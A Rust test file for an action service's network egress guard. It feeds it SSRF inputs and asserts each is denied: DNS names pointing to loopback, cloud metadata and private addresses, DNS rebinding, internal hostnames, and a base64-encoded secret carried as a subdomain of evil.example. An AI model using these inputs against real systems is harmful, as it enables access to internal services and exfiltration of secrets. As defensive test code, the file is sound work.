//! Server-side request forgery, by the name: DNS servers that lie, change their mind, and are
//! asked only so that they hear something.

use super::kit::{Doorkeeper, denied, execute, only_denial, service};
use crate::kit::Remote;
use action_testkit::dns::DnsServer;
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_leads_inside_is_denied_by_its_address() {
    let dns = DnsServer::start().await;
    let (service, target) = (service(Some(&dns), &[]).await, Doorkeeper::start().await);
    let api = &service.private;
    for (number, (attack, address, reason)) in [
        ("to loopback", "127.0.0.1", "private_not_requested"),
        ("to loopback in IPv6", "::1", "private_not_requested"),
        ("to loopback, mapped", "::ffff:127.0.0.1", "private_not_requested"),
        ("to loopback behind NAT64", "64:ff9b::7f00:1", "private_not_requested"),
        ("to loopback through 6to4", "2002:7f00:1::1", "private_not_requested"),
        ("to this host", "0.0.0.0", "private_not_requested"),
        ("to metadata", "169.254.169.254", "private_not_requested"),
        ("to metadata, mapped", "::ffff:a9fe:a9fe", "private_not_requested"),
        ("to metadata in IPv6", "fd00:ec2::254", "private_not_requested"),
        ("to a private network", "10.20.30.40", "private_not_requested"),
        ("to a carrier's network", "100.64.1.1", "private_not_requested"),
        ("to the local link", "fe80::1", "private_not_requested"),
        ("to everybody", "255.255.255.255", "never_reached"),
        ("to many", "ff02::1", "never_reached"),
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("inside-{number}.example");
        dns.says(&name, &[address]);
        let url = format!("http://{name}:{}/", target.port());
        let place = format!("{name}:{}", target.port());
        for (protocol, config) in [
            ("misbehave", json!({"mode": "get", "effect": "read", "url": url})),
            ("misbehave", json!({"mode": "tcp", "address": place})),
            ("wasi-http", json!({"url": url})),
        ] {
            let denial = denied(api, attack, protocol, config, json!({}), reason).await;
            assert_eq!(denial["host"], name, "{attack}");
            assert!(denial["rule"].as_str().unwrap().contains(" is at "), "{attack}: {denial}");
        }
        // Through wasi:sockets the question is a request of its own, and the answer is withheld.
        let config = json!({"mode": "lookup", "address": place, "names": [name]});
        let execution = execute(api, "wasi-sockets", &config, &json!({})).await;
        let events = api.events(execution["id"].as_str().unwrap()).await;
        let denial = events.iter().find(|event| event["type"] == "egress_denied").unwrap();
        assert_eq!(denial["data"]["reason"], reason, "{attack}: {denial}");
        assert_eq!(execution["output"], json!(["PermissionDenied"]), "{attack}: {execution}");
    }
    target.saw_nobody().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn names_of_inside_are_not_even_looked_up() {
    let dns = DnsServer::start().await;
    let service = service(Some(&dns), &[]).await;
    for (attack, name) in [
        ("this host by its name", "localhost"),
        ("this host by a name below it", "app.localhost"),
        ("this host in capitals", "LOCALHOST."),
        ("metadata by its name", "metadata.google.internal"),
        ("a neighbour on the link", "printer.local"),
        ("a device at home", "router.home.arpa"),
    ] {
        dns.says(&name.to_ascii_lowercase(), &["93.184.216.34"]);
        let config = json!({"mode": "get", "effect": "read", "url": format!("http://{name}/")});
        denied(&service.private, attack, "misbehave", config, json!({}), "private_not_requested").await;
    }
    assert_eq!(dns.names(), Vec::<String>::new());
}

/// The operator denies 127.0.0.2, where somebody listens, and the name leads to 127.0.0.1 at first.
#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_is_bound_anew_after_the_check_leads_to_what_was_checked() {
    let (dns, remote) = (DnsServer::start().await, Remote::start().await);
    let service = service(Some(&dns), &[("ACTION_SERVICE_EGRESS_DENY", "127.0.0.2")]).await;
    let port = remote.address.port();
    let inside = Doorkeeper::at(&format!("127.0.0.2:{port}")).await;
    let (api, grants) = (&service.private, json!({"private_networks": true}));
    let turns: &[&[&str]] = &[&["127.0.0.1"], &["127.0.0.2"]];
    for (number, (attack, protocol)) in
        [("by outbound", "misbehave"), ("by wasi:http", "wasi-http"), ("by wasi:sockets", "wasi-sockets")]
            .into_iter()
            .enumerate()
    {
        let name = format!("rebind-{number}.example");
        dns.says_in_turn(&name, turns);
        let url = format!("http://{name}:{port}/json");
        let config = match protocol {
            "misbehave" => json!({"mode": "get", "effect": "read", "url": url}),
            "wasi-http" => json!({"url": url}),
            _ => json!({"address": format!("{name}:{port}")}),
        };
        let first = execute(api, protocol, &config, &grants).await;
        assert_eq!(first["status"], "succeeded", "{attack}: {first}");
        assert_eq!(dns.asked(&name), 1, "{attack}: asked once for one connection");
        if protocol == "wasi-sockets" {
            continue;
        }
        // A host at another address under the same name: asked anew, since nothing is kept of it.
        let other = json!({"mode": "tcp", "address": format!("{name}:{port}")});
        let second = execute(api, "misbehave", &other, &grants).await;
        let events = api.events(second["id"].as_str().unwrap()).await;
        let denial = only_denial(attack, &second, &events);
        assert_eq!(denial["reason"], "denied_by_operator", "{attack}: {denial}");
        assert!(denial["rule"].as_str().unwrap().contains("127.0.0.2"), "{attack}: {denial}");
    }
    inside.saw_nobody().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn of_many_addresses_only_those_that_may_be_reached_are_tried() {
    let (dns, remote) = (DnsServer::start().await, Remote::start().await);
    let service = service(Some(&dns), &[("ACTION_SERVICE_EGRESS_DENY", "127.0.0.2, ::1")]).await;
    let (api, port) = (&service.private, remote.address.port());
    let inside = Doorkeeper::at(&format!("127.0.0.2:{port}")).await;
    dns.says("mixed.example", &["127.0.0.2", "127.0.0.1", "::1"]);
    dns.says("all-bad.example", &["127.0.0.2", "::1"]);
    let grants = json!({"private_networks": true});
    for protocol in ["misbehave", "wasi-http"] {
        let url = format!("http://mixed.example:{port}/json");
        let config = json!({"mode": "get", "effect": "read", "url": url});
        let execution = execute(api, protocol, &config, &grants).await;
        assert_eq!(execution["status"], "succeeded", "{protocol}: {execution}");
        let config = json!({"mode": "get", "effect": "read", "url": format!("http://all-bad.example:{port}/json")});
        denied(api, "all of them inside", protocol, config, grants.clone(), "denied_by_operator").await;
    }
    inside.saw_nobody().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_nobody_granted_is_not_asked_for_whatever_it_carries() {
    let dns = DnsServer::start().await;
    let service = service(Some(&dns), &[]).await;
    let api = &service.private;
    let secret = "c2VjcmV0LXRva2Vu.evil.example";
    for (attack, protocol, config) in [
        ("by outbound", "misbehave", json!({"mode": "get", "effect": "read", "target": format!("http://{secret}/")})),
        ("by a connection", "misbehave", json!({"mode": "tcp", "target": format!("{secret}:443")})),
        ("by wasi:http", "wasi-http", json!({"url": "http://a.example/", "target": format!("http://{secret}/")})),
        ("by wasi:sockets", "wasi-sockets", json!({"address": "a.example:1", "target": format!("{secret}:443")})),
    ] {
        denied(api, attack, protocol, config, json!({}), "not_granted").await;
    }
    // Many at once: each is denied, and each denial is recorded up to the bound.
    let names: Vec<String> = (0..120).map(|part| format!("part-{part}.evil.example")).collect();
    let config = json!({"mode": "lookup", "address": "a.example:1", "names": names});
    let execution = execute(api, "wasi-sockets", &config, &json!({})).await;
    let found = execution["output"].as_array().unwrap();
    assert!(found.iter().all(|found| found == "PermissionDenied"), "{execution}");
    let events = api.events(execution["id"].as_str().unwrap()).await;
    let denials = events.iter().filter(|event| event["type"] == "egress_denied").count();
    assert_eq!(denials, 100);
    assert_eq!(dns.names(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn questions_for_granted_names_are_counted_and_recorded() {
    let dns = DnsServer::start().await;
    let service = service(Some(&dns), &[]).await;
    let api = &service.private;
    let names: Vec<String> = (0..150).map(|part| format!("part-{part}.granted.example")).collect();
    let grants = json!({"egress": [{"host": "*.granted.example", "ports": [443]}]});
    let config = json!({"mode": "lookup", "address": "a.example:1", "names": names});
    let execution = execute(api, "wasi-sockets", &config, &grants).await;
    let events = api.events(execution["id"].as_str().unwrap()).await;
    let asked: Vec<&Value> = events.iter().filter(|event| event["type"] == "request_made").collect();
    assert_eq!(asked.len(), 100, "as many as requests are made at all");
    assert!(asked.iter().all(|event| event["data"]["method"] == "DNS"), "{asked:?}");
    assert_eq!(asked[7]["data"]["host"], "part-7.granted.example");
    assert_eq!(execution["receipt"]["requests"], 100, "{execution}");
    let denial = events.iter().find(|event| event["type"] == "egress_denied").unwrap();
    assert!(denial["data"]["rule"].as_str().unwrap().contains("100 requests"), "{denial}");
    assert_eq!(dns.names().len(), 100);
}
